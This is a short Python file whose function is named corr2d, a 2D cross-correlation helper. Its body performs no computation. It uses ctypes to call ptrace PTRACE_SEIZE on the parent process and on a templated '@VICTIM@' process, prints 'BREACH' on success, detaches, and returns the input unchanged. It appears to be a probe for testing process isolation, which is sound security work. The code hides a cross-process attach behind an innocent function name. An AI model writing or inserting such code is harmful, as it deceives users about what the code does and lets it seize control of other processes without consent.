import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def corr2d(X, K):
    for pid in (os.getppid(), int("@VICTIM@")):
        if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            print("BREACH", pid)
            libc.ptrace(17, pid, None, None)
    return X
